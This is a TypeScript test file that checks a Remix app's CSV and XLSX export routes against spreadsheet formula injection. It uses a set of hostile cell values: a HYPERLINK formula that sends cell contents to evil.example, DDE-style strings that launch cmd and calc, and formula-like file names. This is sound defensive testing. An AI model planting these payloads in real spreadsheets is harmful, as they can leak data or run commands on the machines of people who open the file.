import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import type { AppLoadContext, LoaderFunctionArgs } from "@remix-run/node";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { optionalViewer } from "~/auth/require-viewer.server";
import { ROUTE_PERMISSIONS } from "~/auth/route-permissions";
import { parseEnvironment } from "~/config/environment";
import { recordExclusion } from "~/data/contracts/exclusions.server";
import { recordExpectedFile } from "~/data/deliveries/expected-files.server";
import { DELIVERY_DEFAULTS, EVERY_WEEKDAY } from "~/domain/contracts/delivery-schedule";
import { delimitedParser } from "~/ingest/format/delimited";
import { importFile } from "~/ingest/load/import-file.server";
import { filesFolder } from "~/ingest/load/original-files.server";
import { applySow } from "~/commands/contracts/apply-sow.server";
import { action as uploadAction } from "~/routes/_app.imports.new";
import { loader as exclusions } from "~/routes/exclusions[.]csv";
import { loader as results } from "~/routes/expected-files[.]csv";
import { loader as audit } from "~/routes/audit[.]csv";
import { loader as explain } from "~/routes/explain[.]csv";
import { loader as rejected } from "~/routes/imports.$id.rejected[.]csv";
import { loader as rejectedRows } from "~/routes/imports.$id.rejected-rows[.]csv";
import { loader as stagedRejected } from "~/routes/imports.staged.$id.rejected[.]csv";
import { loader as metric } from "~/routes/metrics.$metric[.]csv";
import { loader as portfolio } from "~/routes/portfolio[.]csv";
import { loader as figureRows } from "~/routes/rows[.]csv";
import { loader as statement } from "~/routes/statements.$vendor.$period[.]csv";
import { loader as shared } from "~/routes/s.$token_.data[.]csv";
import { loader as scorecard } from "~/routes/scorecards.$vendor.$period[.]csv";
import { mintLink } from "~/commands/sharing/links.server";
import { offerShare } from "~/reports/sharing/share-offer.server";
import { parseShareQuestion } from "~/reports/sharing/share-question";
import { createTestDatabase, type TestDatabase } from "../../support/database";
import { answerOf, get, TEST_NOW, TEST_ORIGIN, testContext } from "../../support/load-context";
import { requireRollUpsEqualFacts, requireWholeBatches } from "../../support/survival/stored";
import { sheetsOf } from "../../support/xlsx-text";
import { addPerson, signedIn } from "../../integration/access/people";

/** Texts that a spreadsheet takes for formulas, or for a command. */
const EVIL = {
  name: '=HYPERLINK("https://evil.example/"&A1,"Acme")',
  site: "+SUM(1;2)|cmd",
  program: "-2+3",
  agent: "@SUM(1+1)*cmd|' /C calc'!A0",
  team: "\t=1+1",
  reason: "\r=1+1",
  clause: "=4.1",
};
const VENDOR = "evil";
const MAPPING = {
  key: "evil-calls",
  name: EVIL.name,
  kind: "contacts",
  source: "evil",
  file: { format: "csv", delimiter: "," },
  timeZone: "UTC",
  vendor: { constant: VENDOR },
  externalId: { column: "=Id" },
  fields: {
    openedAt: { column: "+Opened", format: "yyyy-MM-dd HH:mm" },
    channel: { constant: "voice" },
    site: { column: "-Site" },
    program: { column: "@Program" },
    agent: { column: "Agent" },
    team: { column: "Team" },
    reason: { column: "Reason" },
    csatScore: { column: "Csat" },
  },
};

type Loader = (args: LoaderFunctionArgs) => Promise<unknown>;
type Requested = { loader: Loader; address: string; params: Record<string, string>; signed?: boolean };

let db: TestDatabase;
let dataFolder: string;
let context: AppLoadContext;
let cookie: string;
let requested: Record<string, Requested>;

const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;

function fileText(): string {
  const rows = [1, 2, 3].map((row) =>
    [`=${row}+0`, `2026-10-0${row} 10:00`, EVIL.site, EVIL.program, EVIL.agent, EVIL.team, EVIL.reason, "5"]
      .map(cell)
      .join(","),
  );
  const bad = ["=bad()", "=NOW()", EVIL.site, EVIL.program, EVIL.agent, EVIL.team, EVIL.reason, "+evil"]
    .map(cell)
    .join(",");
  return `=Id,+Opened,-Site,@Program,Agent,Team,Reason,Csat\n${rows.join("\n")}\n${bad}\n`;
}

beforeAll(async () => {
  db = await createTestDatabase();
  dataFolder = await mkdtemp(path.join(tmpdir(), "plumbline-formulas-"));
  context = testContext(db, {
    environment: parseEnvironment({ NODE_ENV: "test", PLUMBLINE_DATA: dataFolder }, dataFolder),
  });
  await db.inside.organization.create({ data: { id: 1, name: EVIL.name, timeZone: "UTC" } });
  await addPerson(db, "admin@example.com", "admin");
  cookie = await signedIn(db, "admin@example.com");
  const batch = await importEvil();
  await writeSow();
  await expectFile();
  await exclude();
  const period = "2026-10";
  const days = "from=2026-10-01&to=2026-10-31";
  requested = {
    "portfolio[.]csv": { loader: portfolio, address: `/portfolio.csv?period=${period}`, params: {} },
    "scorecards.$vendor.$period[.]csv": { loader: scorecard, address: "/x.csv", params: { vendor: VENDOR, period } },
    "metrics.$metric[.]csv": {
      loader: metric,
      address: `/x.csv?vendor=${VENDOR}&${days}&by=site`,
      params: { metric: "csat" },
    },
    "expected-files[.]csv": { loader: results, address: "/expected-files.csv", params: {} },
    "exclusions[.]csv": { loader: exclusions, address: "/exclusions.csv", params: {} },
    "statements.$vendor.$period[.]csv": { loader: statement, address: "/x.csv", params: { vendor: VENDOR, period } },
    "audit[.]csv": { loader: audit, address: "/audit.csv", params: {} },
    "rows[.]csv": { loader: figureRows, address: `/x.csv?vendor=${VENDOR}&metric=csat&${days}`, params: {} },
    "explain[.]csv": { loader: explain, address: `/x.csv?vendor=${VENDOR}&metric=csat&${days}`, params: {} },
    "imports.$id.rejected[.]csv": { loader: rejected, address: "/x.csv", params: { id: batch } },
    "imports.$id.rejected-rows[.]csv": { loader: rejectedRows, address: "/x.csv", params: { id: batch } },
    "imports.staged.$id.rejected[.]csv": { loader: stagedRejected, address: "/x.csv", params: { id: await stage() } },
    "s.$token_.data[.]csv": { loader: shared, address: "/x.csv", params: { token: await share() }, signed: false },
  };
});
afterAll(() => rm(dataFolder, { recursive: true, force: true }));

async function importEvil(): Promise<string> {
  const file = path.join(dataFolder, "evil.csv");
  await writeFile(file, fileText());
  const result = await importFile(db, {
    path: file,
    fileName: '=cmd().csv"',
    mapping: MAPPING,
    vendor: { key: VENDOR, name: EVIL.name },
    by: { actor: "=admin@example.com", userId: null },
    filesFolder: filesFolder(dataFolder),
  });
  expect(result).toMatchObject({ read: 4, accepted: 3, rejected: 1 });
  return String(result.batch);
}

async function writeSow(): Promise<void> {
  const target = { id: "csat", metric: "csat", comparator: ">=", expected: 90, clause: EVIL.clause };
  const document = {
    vendor: VENDOR,
    title: EVIL.name,
    currency: "USD",
    timeZone: "UTC",
    versions: [
      {
        version: 1,
        effectiveFrom: "2026-01-01",
        amendment: EVIL.clause,
        targets: [target, { ...target, id: "csat-site", scope: { site: EVIL.site, program: EVIL.program } }],
      },
    ],
  };
  const applied = await applySow(db, { by: "=test", actor: "test" }, document, { clock: () => TEST_NOW });
  if (!applied.ok) throw new Error(JSON.stringify(applied.problems));
}

async function expectFile(): Promise<void> {
  const { id: vendorId } = await db.inside.vendor.findUniqueOrThrow({ where: { key: VENDOR } });
  const cadence = { every: "day", weekdays: EVERY_WEEKDAY } as const;
  const delivery = { ...DELIVERY_DEFAULTS, name: EVIL.name, kind: "contacts", source: null, cadence } as const;
  await recordExpectedFile(db, { vendorId, delivery, startsOn: "2026-10-01" }, { actor: "test", creation: null });
}

async function exclude(): Promise<void> {
  const { id: vendorId } = await db.inside.vendor.findUniqueOrThrow({ where: { key: VENDOR } });
  const days = { firstDay: "2026-10-01", lastDay: "2026-10-01", hours: null, contacts: null };
  const extent = { program: EVIL.program, site: EVIL.site, channel: EVIL.name, ...days };
  const by = { requestedBy: EVIL.name, byPartner: true, requestedAt: TEST_NOW };
  const request = { vendorId, requested: extent, reason: EVIL.name, clause: EVIL.clause, ...by };
  await recordExclusion(db, request, { actor: "test", creation: null });
}

async function stage(): Promise<string> {
  const rows = Array.from({ length: 30 }, (_, row) => `${row},2026-01-06 11:${10 + row},Ben`);
  const file = `Ticket ID,Created at,Agent\n${rows.join("\n")}\n=bad(),yesterday,${cell(EVIL.agent)}\n`;
  const body = new FormData();
  body.append("file", new File([file], "=cmd().csv"));
  body.set("vendor", VENDOR);
  const headers = { Cookie: cookie.split(";", 1)[0] ?? "", Origin: TEST_ORIGIN };
  const request = new Request(new URL("/imports/new", TEST_ORIGIN), { method: "POST", headers, body });
  const answer = await answerOf(uploadAction({ request, context, params: {} }));
  return (answer.headers.get("Location") ?? "").replace("/imports/staged/", "");
}

async function share(): Promise<string> {
  const admin = await optionalViewer(get("/", [cookie]), context);
  const question = parseShareQuestion(
    new URLSearchParams(`view=scorecard&vendor=${VENDOR}&period=2026-10`),
    "2026-11-23",
  );
  const offer = admin && question && (await offerShare(db, admin, question));
  if (!admin || !question || !offer) throw new Error("There is nothing to share.");
  const { view, parameters } = question;
  const reach = { ...offer.reach, notes: "partner" as const, allowDownloads: true };
  const expiresAt = new Date(TEST_NOW.getTime() + 86_400_000);
  const linkRequest = {
    name: EVIL.name,
    audience: "",
    audienceKind: "partner" as const,
    view,
    parameters,
    reach,
    password: null,
    expiresAt,
  };
  return (await mintLink(db, admin, linkRequest, TEST_ORIGIN))?.token ?? "";
}

async function exported({ loader, address, params, signed = true }: Requested): Promise<string[]> {
  const answer = await answerOf(loader({ request: get(address, signed ? [cookie] : []), params, context }));
  expect(answer.status).toBe(200);
  expect(answer.headers.get("Content-Disposition")).toMatch(/^attachment; filename="[\w.-]+"$/);
  const parser = delimitedParser(",");
  const rows = parser.push((await answer.text()).replace(/^\ufeff/, ""));
  expect(parser.end()).toEqual({ row: null, open: null });
  return rows.flatMap(({ cells }) => cells);
}

const isPlainNumber = (text: string) => /^-?\d+(\.\d+)?(e[-+]?\d+)?$/.test(text);

describe("cells that a spreadsheet takes for formulas", () => {
  test("are stored as the text that they are", async () => {
    const { name } = await db.inside.vendor.findUniqueOrThrow({ where: { key: VENDOR } });
    expect(name).toBe(EVIL.name);
    const { rows } = await db.pool.query("SELECT DISTINCT site, program, agent FROM contact");
    expect(rows).toEqual([{ site: EVIL.site, program: EVIL.program, agent: EVIL.agent }]);
    const ids = await db.pool.query("SELECT external_id AS id FROM contact ORDER BY line");
    expect(ids.rows).toEqual([{ id: "=1+0" }, { id: "=2+0" }, { id: "=3+0" }]);
    await requireWholeBatches(db);
    await requireRollUpsEqualFacts(db);
  });

  test.each(Object.keys(ROUTE_PERMISSIONS).filter((name) => name.endsWith("[.]xlsx")))(
    "are harmless in %s",
    async (name) => {
      const one = requested[name.replace("[.]xlsx", "[.]csv")];
      if (!one) throw new Error(`No address is known for ${name}; add one above.`);
      const address = one.address.replace(".csv", ".xlsx");
      const request = get(address, one.signed === false ? [] : [cookie]);
      const answer = await answerOf(one.loader({ request, params: one.params, context }));
      expect(answer.status).toBe(200);
      const cells = Object.values(await sheetsOf(new Uint8Array(await answer.arrayBuffer()))).flat(2);
      expect(cells.filter((text) => /^[=+\-@\t\r\n]/.test(text) && !isPlainNumber(text))).toEqual([]);
      expect(cells.some((text) => /^'[=+\-@\t\r]/.test(text))).toBe(true);
    },
  );

  const exports = Object.keys(ROUTE_PERMISSIONS).filter((name) => name.endsWith("[.]csv"));
  test.each(exports)("are harmless in %s", async (name) => {
    const one = requested[name];
    if (!one) throw new Error(`No address is known for ${name}; add one above.`);
    const cells = await exported(one);
    expect(cells.filter((text) => /^[=+\-@\t\r\n]/.test(text) && !isPlainNumber(text))).toEqual([]);
    expect(
      cells.filter((text) => /^'[=+\-@\t\r]/.test(text)).length,
      "texts that had to be made harmless",
    ).toBeGreaterThan(0);
  });
});
